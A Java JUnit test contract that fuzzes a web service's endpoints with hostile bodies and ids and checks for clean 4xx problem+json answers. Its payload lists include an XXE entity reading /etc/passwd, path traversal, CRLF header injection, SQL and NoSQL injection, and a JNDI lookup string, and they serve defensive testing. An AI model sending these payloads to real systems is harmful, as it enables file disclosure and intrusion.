package io.tlsuite.service.testing;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Hostile input against every endpoint of a service, the way a careless or malicious caller sends
 * it: bodies that are not the JSON asked for (truncated, an array, a scalar, nested ten thousand
 * deep, invalid UTF-8, the wrong media type, megabytes) and ids that are not ids (traversal, CR/LF,
 * NUL, hundreds of characters, JNDI lookups). Each case must answer a 4xx problem+json with a type
 * from {@code docs/errors.md}, never a 5xx, a stack trace or the raw input echoed into a header;
 * and the service must still be ready afterwards. A service's test extends this with its endpoints
 * and a caller that passes its authentication (so the input reaches the parsers).
 */
public abstract class HostileInputContract {

    private static final String TYPE_BASE = "https://tlsuite.dev/problems/";

    /** One endpoint: method, path with an optional {@code {id}}, and whether it takes a body. */
    public record Endpoint(String method, String path, boolean takesBody) {
        public static Endpoint post(String path) {
            return new Endpoint("POST", path, true);
        }

        public static Endpoint put(String path) {
            return new Endpoint("PUT", path, true);
        }

        public static Endpoint get(String path) {
            return new Endpoint("GET", path, false);
        }

        public static Endpoint delete(String path) {
            return new Endpoint("DELETE", path, false);
        }
    }

    /** A hostile body: its media type and bytes. */
    record Body(String name, String contentType, byte[] bytes) {}

    /** The service's endpoints; paths with {@code {id}} get the hostile ids too. */
    protected abstract List<Endpoint> endpoints();

    /** A request that passes the service's authentication (a token header, say). */
    protected RequestSpecification caller() {
        return given();
    }

    /** A well-formed id for the {@code {id}} of paths probed with hostile bodies. */
    protected String someId() {
        return "00000000-0000-4000-8000-000000000000";
    }

    /** Largest body the service accepts; the oversized case sends four times this plus one. */
    protected int maxBodyBytes() {
        return 1024 * 1024;
    }

    static List<Body> hostileBodies(int maxBodyBytes) {
        List<Body> bodies = new ArrayList<>();
        String json = "application/json";
        bodies.add(new Body("truncated JSON", json, utf8("{\"a\":")));
        bodies.add(new Body("an array for an object", json, utf8("[{\"id\":\"x\"}]")));
        bodies.add(new Body("a bare string", json, utf8("\"hello\"")));
        bodies.add(new Body("a huge number", json, utf8("123456789012345678901234567890")));
        bodies.add(new Body("null", json, utf8("null")));
        bodies.add(new Body("an empty body", json, new byte[0]));
        bodies.add(new Body("nested 10000 deep", json, utf8("[".repeat(10_000))));
        bodies.add(
                new Body(
                        "wrong types everywhere",
                        json,
                        utf8(
                                "{\"id\":{\"$ne\":1},\"csr\":[1,2],\"records\":true,"
                                        + "\"count\":\"many\",\"keys\":\"x\",\"scenario\":7}")));
        bodies.add(
                new Body(
                        "invalid UTF-8",
                        json,
                        new byte[] {
                            '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'
                        }));
        bodies.add(new Body("NUL and controls", json, utf8("{\"id\":\"\\u0000\\r\\nX: 1\"}")));
        bodies.add(new Body("text/plain", "text/plain", utf8("id=1")));
        bodies.add(
                new Body(
                        "XML",
                        "application/xml",
                        utf8(
                                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")));
        bodies.add(
                new Body(
                        "oversized",
                        json,
                        utf8("{\"pad\":\"" + "a".repeat(4 * maxBodyBytes + 1) + "\"}")));
        return bodies;
    }

    static List<String> hostileIds() {
        return List.of(
                "..%2F..%2Fetc%2Fpasswd",
                "a%20b",
                "%00",
                "x%0d%0aX-Injected:%201",
                "%E2%98%83%F0%9F%92%A5",
                "'%20OR%201=1--",
                "$%7Bjndi:ldap:%2F%2Fexample.invalid%2Fa%7D",
                "a".repeat(300));
    }

    @TestFactory
    Stream<DynamicTest> hostileBodiesGetA4xxProblem() {
        List<DynamicTest> tests = new ArrayList<>();
        for (Endpoint e : endpoints()) {
            if (!e.takesBody()) {
                continue;
            }
            for (Body b : hostileBodies(maxBodyBytes())) {
                String path = e.path().replace("{id}", someId());
                tests.add(
                        DynamicTest.dynamicTest(
                                e.method() + " " + e.path() + ": " + b.name(),
                                () ->
                                        assertHostileAnswer(
                                                caller().config(
                                                                RestAssuredConfig.config()
                                                                        .encoderConfig(
                                                                                EncoderConfig
                                                                                        .encoderConfig()
                                                                                        .appendDefaultContentCharsetToContentTypeIfUndefined(
                                                                                                false)))
                                                        .contentType(b.contentType())
                                                        .body(b.bytes())
                                                        .request(e.method(), path),
                                                e.method() + " " + path + " with " + b.name())));
            }
        }
        return tests.stream();
    }

    @TestFactory
    Stream<DynamicTest> hostileIdsGetA4xxProblem() {
        List<DynamicTest> tests = new ArrayList<>();
        for (Endpoint e : endpoints()) {
            if (!e.path().contains("{id}")) {
                continue;
            }
            for (String id : hostileIds()) {
                String path = e.path().replace("{id}", id);
                tests.add(
                        DynamicTest.dynamicTest(
                                e.method() + " " + e.path() + ": id " + abbreviate(id),
                                () -> {
                                    RequestSpecification r = caller().urlEncodingEnabled(false);
                                    if (e.takesBody()) {
                                        r = r.contentType("application/json").body("{}");
                                    }
                                    assertHostileAnswer(
                                            r.request(e.method(), path),
                                            e.method() + " " + abbreviate(path));
                                }));
            }
        }
        return tests.stream();
    }

    @TestFactory
    Stream<DynamicTest> anonymousCallersGetNothingButAProblem() {
        List<DynamicTest> tests = new ArrayList<>();
        for (Endpoint e : endpoints()) {
            if (!requiresAuthentication(e)) {
                continue;
            }
            String path = e.path().replace("{id}", someId());
            tests.add(
                    DynamicTest.dynamicTest(
                            "anonymous " + e.method() + " " + e.path(),
                            () -> {
                                RequestSpecification r = given();
                                if (e.takesBody()) {
                                    r = r.contentType("application/json").body("{}");
                                }
                                Response answer = r.request(e.method(), path);
                                assertThat(answer.statusCode())
                                        .as("anonymous %s %s", e.method(), path)
                                        .isIn(401, 403);
                                assertThat(answer.contentType())
                                        .startsWith("application/problem+json");
                            }));
        }
        return tests.stream();
    }

    /** Endpoints an anonymous caller must not reach; none unless the service says so. */
    protected boolean requiresAuthentication(Endpoint endpoint) {
        return false;
    }

    private void assertHostileAnswer(Response answer, String what) {
        int status = answer.statusCode();
        String body = answer.asString();
        assertThat(status)
                .as("%s answered %d: %s", what, status, abbreviate(body))
                .isBetween(400, 499);
        assertThat(answer.contentType())
                .as("%s: %d without problem+json", what, status)
                .startsWith("application/problem+json");
        Map<String, Object> problem = answer.jsonPath().getMap("");
        String type = String.valueOf(problem.get("type"));
        assertThat(type).as("%s: problem type", what).startsWith(TYPE_BASE);
        assertThat(ErrorCatalogue.undocumented(List.of(type.substring(TYPE_BASE.length()))))
                .as("%s: problem type in docs/errors.md", what)
                .isEmpty();
        assertThat(problem.get("status")).as("%s: problem status", what).isEqualTo(status);
        assertThat(body)
                .as("%s: no stack trace or Java type in the answer", what)
                .doesNotContain("Exception")
                .doesNotContain("\tat ")
                .doesNotContain("java.")
                .doesNotContain("${");
        assertThat(answer.headers().hasHeaderWithName("X-Injected"))
                .as("%s: a header injected through the id", what)
                .isFalse();
        assertThat(given().get("/q/health/live").statusCode())
                .as("still alive after %s", what)
                .isEqualTo(200);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String abbreviate(String s) {
        return s.length() > 120 ? s.substring(0, 120) + "…(" + s.length() + ")" : s;
    }
}
